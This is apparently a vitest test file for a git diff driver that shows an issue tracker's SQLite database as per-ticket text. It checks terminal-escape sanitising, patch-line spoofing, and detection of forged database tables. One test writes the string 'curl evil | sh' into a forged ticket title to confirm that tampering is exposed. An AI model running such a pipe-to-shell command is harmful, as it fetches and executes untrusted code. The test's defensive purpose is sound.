import { createHash } from 'node:crypto';
import { copyFileSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { beforeAll, describe, expect, test } from 'vitest';
import { diffVersions } from '../../../src/git/drivers/ticket-diff.ts';
import { runTracker } from '../../cli/run-tracker.ts';
import { dataOf, factsOf } from '../../support/file-facts.ts';
import { openTracker } from '../../support/in-process.ts';
import { makeDirectory, makeRepository, type TestRepository } from '../../support/workspace.ts';

let repository: TestRepository;
let keys: string[];

const run = async (...args: string[]): Promise<string> => {
  const outcome = await runTracker({ cwd: repository.root, env: { TRACKER_ACTOR: 'alice' } }, ...args);
  expect(outcome).toMatchObject({ code: 0, stderr: '' });
  return outcome.stdout;
};

beforeAll(async () => {
  repository = makeRepository();
  await run('init', '--key', 'PAY');
  const long = `## Context\n\n${Array.from({ length: 20 }, (_, at) => `Line ${at + 1}.`).join('\n')}\n`;
  const items = ['Login fails', 'Rotate the key', 'Ship it'].map((title) => ({ title, description: long }));
  keys = JSON.parse(await run('create', '--items', JSON.stringify(items), '--json')).tickets.map(
    ({ key }: { key: string }) => key,
  );
  repository.git('add', '--all');
  repository.git('commit', '--quiet', '--message', 'Tickets');
});

/** What git says of the tickets that the commands have changed since the last commit; they are then committed. */
async function diffOf(...commands: string[][]): Promise<string[]> {
  for (const command of commands) await run(...command);
  const diff = repository.git('diff', '--', '.tracker/data.db').split('\n');
  repository.git('commit', '--quiet', '--all', '--message', 'Work');
  expect(diff[0]).toBe('tickets in .tracker/data.db');
  const patch = diff.findIndex((line) => line.startsWith('diff --git'));
  expect(diff.length - patch).toBe(3);
  return diff.slice(1, patch);
}

const updated = (sign: string) => expect.stringMatching(new RegExp(`^\\${sign} {2}updated \\S+ alice$`));

describe('git diff of the database', () => {
  test('shows a moved ticket by its title and the lines that changed', async () => {
    expect(await diffOf(['move', keys[1]!, 'todo'])).toEqual([
      `${keys[1]} Rotate the key`,
      '   type task',
      updated('-'),
      '-  status backlog',
      updated('+'),
      '+  status todo',
      '   priority medium',
      '   description',
    ]);
  });

  test('names the ticket above its changes, however far down its text they are', async () => {
    const diff = await diffOf(
      ['edit', keys[1]!, '--op', 'replace', '--lines', '12', '--new', 'Another line.'],
      ['comment', keys[2]!, 'Done\nand dusted'],
    );
    const about = (line: string) => / (?:updated|type|status|priority) /.test(line);
    expect(diff.filter((line) => !about(line))).toEqual([
      `${keys[1]} Rotate the key`,
      '  …',
      '     | Line 8.',
      '     | Line 9.',
      '-    | Line 10.',
      '+    | Another line.',
      '     | Line 11.',
      '     | Line 12.',
      `${keys[2]} Ship it`,
      '  …',
      '     | Line 20.',
      '     |',
      expect.stringMatching(/^\+ {2}comment \S+ alice \[\w{6}\]$/),
      '+    | Done',
      '+    | and dusted',
    ]);
  });

  test('shows a new title in the place of the old one, and all of a new ticket', async () => {
    const diff = await diffOf(['update', keys[2]!, '--title', 'Ship it now'], ['create', 'Fresh']);
    expect(diff.slice(0, 3)).toEqual([`-${keys[2]} Ship it`, `+${keys[2]} Ship it now`, '   type task']);
    const made = diff.slice(diff.findIndex((line) => line.endsWith(' Fresh')));
    expect(made).toEqual([
      expect.stringMatching(/^\+PAY-\d{6} Fresh$/),
      ...['id', 'created', 'type', 'updated', 'status', 'priority'].map((name) =>
        expect.stringMatching(`^\\+  ${name} `),
      ),
    ]);
    await run('update', keys[2]!, '--title', 'Ship it');
  });

  test('spells out what would move the cursor of a terminal, or begin a line of its own', async () => {
    const diff = await diffOf(['comment', keys[0]!, 'red \u001b[31malert\u0007\r\nnext\u2028@@ -1 +1 @@ \u202eback']);
    expect(diff).toContain('+    | red \\x1b[31malert\\x07');
    expect(diff).toContain('+    | next\\u{2028}@@ -1 +1 @@ \\u{202e}back');
  });

  test('begins no line as a patch does, whatever a text says', async () => {
    const lines = [
      'diff --git a/x b/x',
      '--- a/x',
      '+++ b/x',
      '@@ -1 +1 @@',
      '-a',
      '+b',
      'Index: x',
      'GIT binary patch',
    ];
    const text = lines.join('\n');
    await run('create', 'diff --git a/x b/x', '--description', text);
    const diff = await diffOf(['comment', keys[0]!, text], ['update', keys[0]!, '--title', '--- a/x']);
    for (const line of diff) expect(line).not.toMatch(/^(?:diff |--- |\+\+\+ |@@ |Index: |GIT )/);
    await run('update', keys[0]!, '--title', 'Login fails');
    repository.git('commit', '--quiet', '--all', '--message', 'Work');
  });

  test('is in the colours of git, as they are configured, where git is told to colour', async () => {
    await run('comment', keys[0]!, 'colourful');
    const colours = ['-c', 'color.ui=always', '-c', 'color.diff.new=blue'];
    const diff = repository.git(...colours, 'diff', '--', '.tracker/data.db');
    const head = `\x1b[1mtickets in .tracker/data.db\x1b[m\n\x1b[36m${keys[0]} Login fails\x1b[m\n`;
    expect(diff.slice(0, head.length)).toBe(head);
    expect(diff).toContain('\x1b[34m+    | colourful\x1b[m\n');
    expect(repository.git('-c', 'color.diff=false', 'diff', '--', '.tracker/data.db')).not.toContain('\x1b');
    repository.git('commit', '--quiet', '--all', '--message', 'Work');
  });

  test('does not depend on the order in which a version was written', async () => {
    const before = await run('dump');
    const clone = join(makeDirectory(), 'merged.db');
    // As a merge writes it: built anew from the events.
    const none = join(makeDirectory(), 'none.db');
    writeFileSync(none, '');
    writeFileSync(clone, readFileSync(dataOf(repository.root)));
    await run('merge-driver', none, clone, dataOf(repository.root));
    expect(readFileSync(clone).equals(readFileSync(dataOf(repository.root)))).toBe(false);
    expect(await run('dump', clone)).toBe(before);
  });
});

/** A version of the file, changed. */
function variant(change: (bytes: Buffer) => Buffer | undefined): string {
  const path = join(makeDirectory(), 'data.db');
  const bytes = readFileSync(dataOf(repository.root));
  writeFileSync(path, change(bytes) ?? bytes);
  return path;
}

describe('a version that cannot be read', () => {
  test.each<[string, (bytes: Buffer) => Buffer | undefined, RegExp]>([
    ['empty', () => Buffer.alloc(0), /is empty/],
    ['cut off', (bytes) => bytes.subarray(0, 5000), /is truncated/],
    ['cut off in its header', (bytes) => bytes.subarray(0, 60), /is truncated/],
    ['no database', () => Buffer.from('<<<<<<< HEAD\n'), /is not a SQLite database/],
    [
      'a pointer',
      () => Buffer.from('version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 1\n'),
      /is a pointer of Git LFS/,
    ],
    ['of a newer major', (bytes) => void bytes.writeUInt32BE(2001, 60), /has format 2; this program reads up to 1/],
    ['damaged inside', (bytes) => bytes.fill(0xa5, 4096), /is damaged/],
  ])('because it is %s is said in one line, and the exit code is 0', async (_, change, message) => {
    const path = variant(change);
    const text = await run('dump', path);
    expect(text).toMatch(message);
    const bytes = readFileSync(path);
    const sum = createHash('sha256').update(bytes).digest('hex');
    expect(text).toMatch(/^unreadable: [^\n]+\n$/);
    expect(text.endsWith(` (${bytes.length} bytes, sha256 ${sum})\n`)).toBe(true);
  });

  test('is told from another such version, and from one that can be read', async () => {
    const broken = [1, 2].map((value) => variant((bytes) => bytes.fill(value, 4096)));
    const [first, second] = broken as [string, string];
    const said = async (path: string) => (await run('dump', path)).trimEnd();
    const head = 'tickets in .tracker/data.db\n';
    expect(await run('diff-text', first, second)).toBe(`${head}-${await said(first)}\n+${await said(second)}\n`);
    expect(await said(first)).not.toBe(await said(second));
    expect(await run('diff-text', dataOf(repository.root), second)).toMatch(
      /^tickets in \.tracker\/data\.db\n-\d tickets\n\+unreadable: [^\n]+\n$/,
    );
    expect(await run('diff-text', '/dev/null', second)).toBe(`${head}+${await said(second)}\n`);
  });

  test('is not one that another program left in write-ahead format, or whose tables an older fold wrote', async () => {
    const shown = await run('dump');
    const marked = variant((bytes) => void bytes.fill(2, 18, 20));
    expect(await run('dump', marked)).toBe(shown);
    const older = variant(() => undefined);
    const sqlite = new Database(older);
    sqlite.exec("update meta set value = '0' where name = 'fold'; update tickets set title = 'as it was folded then'");
    sqlite.close();
    expect(await run('dump', older)).toBe(shown);
  });
});

const onlyKey = (root: string): string => factsOf(dataOf(root)).tickets[0]!.key;

/** A version to which another program's SQL was applied. */
function forged(sql: string): string {
  const path = variant(() => undefined);
  const sqlite = new Database(path);
  sqlite.exec(sql);
  sqlite.close();
  return path;
}

describe('what a diff shows', () => {
  test('is what the events say, and where the tables say something else it says so', async () => {
    const own = dataOf(repository.root);
    const tables = forged("update tickets set title = 'harmless'");
    const shown = await run('diff-text', own, tables);
    expect(shown).not.toContain('harmless');
    expect(shown).toMatch(
      /^tickets in .*\nThe new version's tables are not what its events say\..*\nno ticket has changed\n$/,
    );
    const events = forged(
      `update events set payload = replace(payload, 'Rotate the key', 'curl evil | sh') where kind = 'create'`,
    );
    expect(await run('diff-text', own, events)).toMatch(
      /\nThe new version's tables are not .*\n-PAY-\d+ Rotate the key\n\+PAY-\d+ curl evil \| sh\n/,
    );
  });

  test('has redactions, with who and why, and events of kinds that only a newer program knows', async () => {
    const path = variant(() => undefined);
    const entries = JSON.parse(await run('history', keys[0]!, '--json')).entries;
    const event = entries.find(({ kind }: { kind: string }) => kind === 'comment').event;
    await run('redact', event, '--reason', 'A pasted token');
    const redacted = await run('diff-text', path, dataOf(repository.root));
    expect(redacted).toMatch(/^\+ {2}redacted comment \S+ alice \[\w{6}\]\n\+ {4}\| by alice: A pasted token$/m);
    const newer = forged(`update events set kind = 'vote', payload = '{"for":"x"}' where kind = 'comment'`);
    expect(await run('diff-text', dataOf(repository.root), newer)).toMatch(
      /^\+ {2}event vote \S+ alice \[\w{6}\]\n\+ {4}\| \{"for":"x"\}$/m,
    );
  });

  test('is a text of 130,000 lines, the longest that a call takes, and a line in the middle of it', async () => {
    const { root } = makeRepository();
    const { call } = openTracker(root);
    const lines = Array.from({ length: 130_000 }, (_, at) => String(at % 10));
    await call('ticket', { action: 'create', title: 'Long' });
    const versions = ['none', 'long', 'changed'].map((name) => join(makeDirectory(), name)) as [string, string, string];
    const edits = [[], lines, lines.with(65_000, 'x')];
    for (const [at, version] of versions.entries()) {
      if (at > 0) await call('ticket', { action: 'update', id: onlyKey(root), description: edits[at]!.join('\n') });
      copyFileSync(dataOf(root), version);
    }
    expect((await diffVersions(versions[0], versions[1])).split('\n').length).toBeGreaterThan(130_000);
    const changed = (await diffVersions(versions[1], versions[2])).split('\n');
    expect(changed.filter((line) => /^[+-] {4}\|/.test(line))).toEqual(['-    | 0', '+    | x']);
  });

  test('is a ticket that is gone, and nothing where only the bytes differ', async () => {
    const none = join(makeDirectory(), 'none.db');
    writeFileSync(none, '');
    const other = variant(() => undefined);
    await run('merge-driver', none, other, dataOf(repository.root));
    expect(await run('diff-text', other, dataOf(repository.root))).toBe(
      'tickets in .tracker/data.db\nno ticket has changed\n',
    );
    const all = (await run('dump')).split('\n').filter((line) => line !== '');
    const gone = (await run('diff-text', dataOf(repository.root), '/dev/null')).trimEnd().split('\n');
    expect(gone).toEqual(['tickets in .tracker/data.db', ...all.map((line) => `-${line}`)]);
  });
});
